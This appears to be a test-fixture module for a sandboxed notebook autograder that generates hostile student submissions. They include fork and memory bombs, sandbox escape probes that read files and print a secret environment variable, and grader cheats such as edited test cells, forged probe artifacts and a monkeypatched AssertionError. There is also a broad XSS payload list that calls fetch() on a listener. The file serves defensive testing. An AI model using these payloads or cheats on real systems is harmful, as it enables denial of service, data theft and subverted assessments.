"""Hostile and broken submissions, each a real notebook built from the release notebook.

The solution code is parsed from ``source/td_cnn/td_cnn.md`` by ``examples/build_submissions.py``
(imported, never copied); each case adds or changes cells the way a student would. ``write_all``
puts every case under a course's ``submitted/`` folder; ``CASES`` says what each one tries.
"""

from __future__ import annotations

import base64
import copy
import functools
import io
import json
import sys
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

REPO = Path(__file__).resolve().parents[2]
if str(REPO / "examples" / "td_cnn") not in sys.path:
    sys.path.insert(0, str(REPO / "examples" / "td_cnn"))

import build_submissions as bs

SECRET_ENV = "TDKIT_TEST_SECRET"
SECRET_VALUE = "s3cr3t-of-the-grader"


@cache
def _release() -> NotebookNode:
    return nbformat.read(bs.RELEASE, as_version=4)


@cache
def _solution() -> dict[str, str]:
    return bs.parse_solution()


def solution_nb() -> NotebookNode:
    """The release with every solution cell (code and answers) filled as the instructor wrote it."""
    sub = bs.Submission("solution", "full solution", dict(_solution()))
    return nbformat.reads(bs.build_notebook(_release(), sub), as_version=4)


def release_nb() -> NotebookNode:
    return copy.deepcopy(_release())


def _index(nb: NotebookNode, grade_id: str) -> int:
    return next(
        i
        for i, c in enumerate(nb.cells)
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def after_imports(nb: NotebookNode, source: str) -> NotebookNode:
    """A new code cell right after the notebook's import cell (the student's 'try something' cell)."""
    nb.cells.insert(2, nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n")))
    return nb


def at_end(nb: NotebookNode, source: str) -> NotebookNode:
    nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(source).strip("\n")))
    return nb


def replace_solution(nb: NotebookNode, grade_id: str, source: str) -> NotebookNode:
    nb.cells[_index(nb, grade_id)].source = textwrap.dedent(source).strip("\n")
    return nb


# ------------------------------------------------------------------------------------------
# Resource abuse


def memory_and_output_flood() -> NotebookNode:
    nb = solution_nb()
    nb.metadata["kernelspec"] = {
        "name": "ir",
        "display_name": "R",
        "language": "R",
    }  # foreign kernel
    after_imports(
        nb,
        """
        import sys
        chunk = "x" * (1024 * 1024 - 1) + "\\n"
        for _ in range(100):  # 100 MB on stdout
            sys.stdout.write(chunk)
    """,
    )
    after_imports(
        nb,
        """
        import base64
        from IPython.display import display
        display({"image/png": base64.b64encode(b"\\x89PNG" + bytes(50 * 1024 * 1024)).decode()}, raw=True)
        display({"application/x-tdkit-unknown": {"a": 1}, "text/plain": "inconnu"}, raw=True)
    """,
    )
    after_imports(
        nb,
        """
        # Mémoire : d'un coup, puis petit à petit
        try:
            bomb = bytearray(64 * 1024**3)
        except MemoryError:
            print("MEMORY:refused")
        hoard = []
        try:
            while True:
                hoard.append(bytearray(256 * 1024**2))
        except MemoryError:
            print("MEMORY:stopped after", len(hoard))
        del hoard
    """,
    )
    # Outputs of unknown MIME types saved in the submitted file (nbgrader clears them).
    nb.cells[4].outputs = [
        nbformat.v4.new_output("display_data", data={"application/x-weird+json": {"b": 2}})
    ]
    return nb


def interruptible_sleep() -> NotebookNode:
    return after_imports(solution_nb(), "import time\ntime.sleep(10**6)")


def infinite_loop_ignoring_interrupts() -> NotebookNode:
    return after_imports(
        solution_nb(),
        """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    """,
    )


def kernel_exit() -> NotebookNode:
    return after_imports(solution_nb(), "import os\nos._exit(3)")


def segfault() -> NotebookNode:
    return after_imports(solution_nb(), "import ctypes\nctypes.string_at(0)")


def fork_bomb() -> NotebookNode:
    return after_imports(
        solution_nb(),
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
    )


# ------------------------------------------------------------------------------------------
# Escape attempts (every attempt prints ESCAPE:<what>:open or ESCAPE:<what>:blocked)


def escape(targets: dict[str, str], writes: list[str]) -> NotebookNode:
    nb = solution_nb()
    nb.metadata.pop("kernelspec", None)  # missing kernelspec
    after_imports(
        nb,
        f"""
        import os, socket, subprocess, sys, urllib.request
        def attempt(what, action):
            try:
                action()
                print(f"ESCAPE:{{what}}:open")
            except BaseException as error:
                print(f"ESCAPE:{{what}}:blocked", type(error).__name__)
        attempt("socket", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3).close())
        attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443))
        attempt("urllib", lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=3).read())
        def pip():
            done = subprocess.run([sys.executable, "-m", "pip", "install", "--no-cache-dir", "--timeout", "3",
                                   "--retries", "0", "six-tdkit-nonexistent"], capture_output=True, timeout=60)
            if done.returncode != 0:
                raise OSError(done.returncode)
        attempt("pip", pip)
        for what, path in {targets!r}.items():
            attempt("read-" + what, lambda path=path: open(path, "rb").read(1))
        for path in {writes!r}:
            attempt("write-" + path, lambda path=path: open(path, "w").write("pwned"))
        print("SECRET:" + str(os.environ.get({SECRET_ENV!r})))
        print("ENVKEYS:" + ",".join(sorted(os.environ)))
    """,
    )
    return nb


# ------------------------------------------------------------------------------------------
# Cheating


def edited_test_cells() -> NotebookNode:
    """The release (TD loop kept, nothing written) with its test cells and metadata tampered."""
    nb = release_nb()
    nb.cells[_index(nb, "test_train")].source = "pass  # plus de test"
    nb.cells[_index(nb, "test_accuracy")].metadata["nbgrader"]["points"] = 100
    nb.cells[_index(nb, "test_confusion_matrix")].metadata["nbgrader"]["grade_id"] = "test_bonus"
    duplicate = copy.deepcopy(nb.cells[_index(nb, "test_activation_maps")])
    duplicate.id = "dup-activation"
    nb.cells.append(duplicate)
    del nb.cells[_index(nb, "test_predict")]
    extra = nbformat.v4.new_code_cell("pass")
    extra.metadata["nbgrader"] = {
        "grade": True,
        "solution": False,
        "locked": True,
        "points": 50,
        "grade_id": "bonus_points",
        "schema_version": 3,
    }
    nb.cells.append(extra)
    return nb


FAKE_TRAIN = {
    "status": "ok",
    "function": "train",
    "events": "FBS" * 200,
    "loss_history": [2.0, 1.0],
    "returned": {"type": "builtins.list"},
    "input_sums": [],
    "batch_sizes": [],
}


def fake_probe_and_artifacts() -> NotebookNode:
    """The release, plus a cell that forges the probe and its artifacts to pass ``train/step_called``."""
    return at_end(
        release_nb(),
        f"""
        import json, os, sys
        import tdkit.untrusted.probe
        FAKE = {json.dumps(FAKE_TRAIN)}
        def fake_probe(namespace, out_dir, *args, **kwargs):
            os.makedirs(out_dir, exist_ok=True)
            with open(os.path.join(out_dir, "train.json"), "w") as f:
                f.write(json.dumps(FAKE))
            return {{"train": "ok"}}
        tdkit.untrusted.probe.run_probe = fake_probe
        sys.modules["tdkit.untrusted.probe"].run_probe = fake_probe
        for folder in ("artifacts", ".probe-0"):
            fake_probe(None, folder)
        sys.exit = lambda *a: None
    """,
    )


def patched_savers() -> NotebookNode:
    """The release, plus monkeypatched builtins and savers (the probe refuses to run in that kernel).

    ``json.dumps`` itself is left alone: the kernel's own messages need it."""
    return at_end(
        release_nb(),
        """
        import builtins, json
        import numpy as np
        class AlwaysFine(Exception):
            pass
        builtins.AssertionError = AlwaysFine
        json.dump = lambda obj, fp, **k: fp.write('{"status": "ok", "events": "FBS"}')
        np.savez = lambda *a, **k: None
    """,
    )


def always_equal_and_nan() -> NotebookNode:
    """The solution with predict returning objects equal to everything, and NaN-laden matrices."""
    nb = solution_nb()
    replace_solution(
        nb,
        "predict",
        """
        class Anything:
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            def __int__(self):
                return 0
            __hash__ = object.__hash__

        def predict(model, dataset):
            return np.array([Anything() for _ in range(dataset.num_rows)], dtype=object)
    """,
    )
    cell = nb.cells[_index(nb, "confusion_matrix")]
    cell.source = cell.source + textwrap.dedent("""


        def confusion_matrix(model, dataset):
            return np.full((10, 10), np.nan)
    """)
    return nb


# ------------------------------------------------------------------------------------------
# Markup aimed at the grader's browser (formgrader, feedback, JupyterLab, tdkit's pages)

TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAFElEQVR4nGM8ISfHgA0wYRUdtBIA0MoBFD5jqJkAAAAASUVORK5CYII="  # 8x8 red
READABLE = "LISIBLE"  # every piece of student text carries it: the grader must still read it
# What a grader must read on every page that shows the hostile notebook (answers, added cell, outputs).
READABLE_TEXTS = tuple(
    f"{READABLE} {where}"
    for where in (
        *bs.ANSWER_IDS,
        "cellule_ajoutee",
        "sortie_markdown",
        "html",
        "stdout",
        "stderr",
        "erreur",
    )
)


def payload_js(listener: str, name: str) -> str:
    """What each payload runs if it ever runs: a marker on the page and a request to the listener."""
    return f"(window.top.__tdkit_pwned=window.top.__tdkit_pwned||[]).push('{name}');fetch('{listener}/js/{name}')"


def markup_payloads(listener: str, meta_refresh: bool = True) -> str:
    """One HTML fragment with every kind of active markup, each aimed at the listener (a
    Content-Security-Policy cannot stop ``<meta http-equiv=refresh>``: ``meta_refresh=False`` leaves it out)."""
    js = functools.partial(payload_js, listener)
    lines = [
        f"<p>{READABLE} html: texte et <b>gras</b> de l'étudiant</p>",
        f"<script>{js('script')}</script>",
        f'<img src="{listener}/img-remote" onerror="{js("img-onerror")}">',
        f'<img src="x" onerror="{js("img-onerror-local")}">',
        f'<a href="javascript:{js("javascript-url")}">lien javascript</a>',
        f'<a href="data:text/html,<script>{js("data-url-link")}</script>">lien data</a>',
        f'<iframe src="data:text/html,<script>{js("data-url-iframe")}</script>"></iframe>',
        f'<iframe src="{listener}/iframe"></iframe><object data="{listener}/object"></object>',
        f'<embed src="{listener}/embed"><video poster="{listener}/poster"></video>',
        f'<svg onload="{js("svg-onload")}"><script>{js("svg-script")}</script><image href="{listener}/svg-image"/></svg>',
        f'<base href="{listener}/base/"><img src="relative-to-base.png">',
        f'<meta http-equiv="refresh" content="0;url={listener}/meta-refresh">',
        f'<link rel="stylesheet" href="{listener}/link.css">',
        f"<style>@import url({listener}/css-import); p {{ background: url({listener}/css-background) }}</style>",
        f'<div style="background-image: url({listener}/css-inline)">style en ligne</div>',
        f'<details open ontoggle="{js("ontoggle")}"><summary>d</summary></details>',
        f'<input autofocus onfocus="{js("onfocus")}"><body onload="{js("body-onload")}">',
        f'<form action="{listener}/form"><button formaction="{listener}/formaction">envoyer</button></form>',
    ]
    return "\n".join(line for line in lines if meta_refresh or "http-equiv" not in line)


def markup_svg(listener: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{payload_js(listener, "svg-output-onload")}">'
        f'<script>{payload_js(listener, "svg-output-script")}</script><image href="{listener}/svg-output-image" '
        'width="10" height="10"/><circle cx="20" cy="20" r="15" fill="green"/></svg>'
    )


def markup_markdown(listener: str, tag: str, meta_refresh: bool = True) -> str:
    """A free-text answer: prose the grader must read, raw HTML and Markdown links and images."""
    return "\n\n".join(
        [
            f"{READABLE} {tag} : la précision est faible car la boucle n'appelle pas `step()` ; x < 3 et y > 2.",
            markup_payloads(listener, meta_refresh),
            f"[lien markdown](javascript:{payload_js(listener, 'md-link-' + tag)}) et ![image distante]({listener}/md-image)",
            f"[ref][r] et <javascript:{payload_js(listener, 'md-autolink-' + tag)}>\n\n[r]: javascript:{payload_js(listener, 'md-ref')}",
            "![capture](attachment:capture.png) ![piège](attachment:piege.svg)",
        ]
    )


def hostile_markup(listener: str = "http://127.0.0.1:9") -> NotebookNode:
    """The full solution, with every class of active markup in every free-text answer, in a cell
    of its own, in display outputs (HTML, JavaScript, SVG, Markdown, widgets), on stdout and
    stderr, and in an error message; student metadata that would mark it trusted. Each payload
    aims at ``listener`` and sets ``window.__tdkit_pwned`` if it ever runs."""
    nb = solution_nb()
    svg_attachment = base64.b64encode(markup_svg(listener).encode()).decode()
    for grade_id in bs.ANSWER_IDS:
        cell = nb.cells[_index(nb, grade_id)]
        cell.source = markup_markdown(listener, grade_id)
        cell.attachments = {
            "capture.png": {"image/png": TINY_PNG},
            "piege.svg": {"image/svg+xml": svg_attachment},
        }
        cell.metadata["trusted"] = True
    nb.cells.append(nbformat.v4.new_markdown_cell(markup_markdown(listener, "cellule_ajoutee")))
    nb.cells.append(
        nbformat.v4.new_raw_cell(markup_payloads(listener), metadata={"raw_mimetype": "text/html"})
    )
    payload = markup_payloads(listener)
    at_end(
        nb,
        f"""
        import base64, sys
        from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
        PAYLOAD = {payload!r}
        display(HTML(PAYLOAD))
        display(Javascript({payload_js(listener, "javascript-output")!r}))
        display(SVG({markup_svg(listener)!r}))
        display(Markdown({markup_markdown(listener, "sortie_markdown")!r}))
        display(Image(data=base64.b64decode({TINY_PNG!r})))
        display({{"text/html": PAYLOAD, "application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2,
                 "version_minor": 0}}, "text/plain": "{READABLE} widget"}}, raw=True)
        display({{"text/html": PAYLOAD}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
        print("{READABLE} stdout", PAYLOAD)
        print("{READABLE} stderr", PAYLOAD, file=sys.stderr)
    """,
    )
    at_end(nb, f"raise ValueError({READABLE!r} + ' erreur ' + {payload!r})")
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {},
            "version_major": 2,
            "version_minor": 0,
        }
    }
    nb.metadata["trusted"] = True
    nb.metadata["signature"] = "sha256:" + "0" * 64
    return nb


def unsanitised_markup(nb: nbformat.NotebookNode, listener: str) -> nbformat.NotebookNode:
    """The autograded notebook ``nb`` as it would be without tdkit's sanitising: raw HTML answers, and an
    output cell with active HTML, JavaScript and SVG (no meta refresh: no policy can stop one)."""
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if cell.cell_type == "markdown" and grade_id.startswith("answer_"):
            cell.source = markup_markdown(listener, grade_id, meta_refresh=False)
            svg = base64.b64encode(markup_svg(listener).encode()).decode()
            cell.attachments = {
                "capture.png": {"image/png": TINY_PNG},
                "piege.svg": {"image/svg+xml": svg},
            }
    html = markup_payloads(listener, meta_refresh=False)
    cell = nbformat.v4.new_code_cell("display(...)")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": html}),
        nbformat.v4.new_output(
            "display_data", data={"application/javascript": payload_js(listener, "js-output")}
        ),
        nbformat.v4.new_output("display_data", data={"image/svg+xml": markup_svg(listener)}),
        nbformat.v4.new_output("stream", name="stdout", text=html),
    ]
    nb.cells.append(cell)
    return nb


# ------------------------------------------------------------------------------------------
# Broken files (bytes, not notebooks)


def _json(nb: NotebookNode) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


def invalid_json() -> bytes:
    return _json(solution_nb())[:-200]


def nbformat3() -> bytes:
    return nbformat.writes(nbformat.convert(solution_nb(), 3)).encode("utf-8")


def non_utf8() -> bytes:
    return _json(solution_nb()).replace("Entraîne".encode(), "Entraîne".encode("latin-1"), 1)


def empty() -> bytes:
    return b""


def zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("td_cnn.ipynb", _json(solution_nb()))
    return buffer.getvalue()


def many_cells() -> bytes:
    nb = solution_nb()
    nb.cells += [nbformat.v4.new_code_cell(f"x_{i} = {i}") for i in range(5000)]
    return _json(nb)


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[[], NotebookNode | bytes]


CASES = [
    Case(
        "flood",
        "memory bomb, 100 MB on stdout, a 50 MB image, unknown MIME outputs, foreign kernelspec",
        memory_and_output_flood,
    ),
    Case("sleep", "a cell sleeping past the cell limit", interruptible_sleep),
    Case("loop", "an infinite loop that ignores interrupts", infinite_loop_ignoring_interrupts),
    Case("os_exit", "os._exit(3) in a cell", kernel_exit),
    Case("segfault", "a segfault via ctypes", segfault),
    Case("fork_bomb", "a fork bomb", fork_bomb),
    Case(
        "cheat_tests",
        "test cells edited, deleted, duplicated; points raised; grade_id changed",
        edited_test_cells,
    ),
    Case(
        "cheat_probe",
        "tdkit.untrusted.probe.run_probe and sys.exit replaced, fake artifact files",
        fake_probe_and_artifacts,
    ),
    Case(
        "cheat_savers", "builtins.AssertionError, json.dump, np.savez monkeypatched", patched_savers
    ),
    Case(
        "cheat_values",
        "predict returns always-equal objects, confusion_matrix NaN",
        always_equal_and_nan,
    ),
    Case(
        "markup",
        "script, event handlers, javascript:/data: URLs, SVG, iframes, base, meta refresh, remote CSS "
        "in every answer, in display outputs (HTML, JavaScript, SVG, Markdown, widget), stdout, stderr, errors",
        hostile_markup,
    ),
    Case("broken_json", "invalid JSON (truncated)", invalid_json),
    Case("broken_v3", "nbformat 3", nbformat3),
    Case("broken_latin1", "non-UTF-8 bytes", non_utf8),
    Case("broken_empty", "an empty file", empty),
    Case("broken_zip", "a zip renamed .ipynb", zipped),
    Case("broken_5000", "5 000 cells", many_cells),
]


def write(
    course_submitted: Path, student: str, assignment: str, content: NotebookNode | bytes
) -> Path:
    target = course_submitted / student / assignment / f"{assignment}.ipynb"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(content if isinstance(content, bytes) else _json(content))
    return target
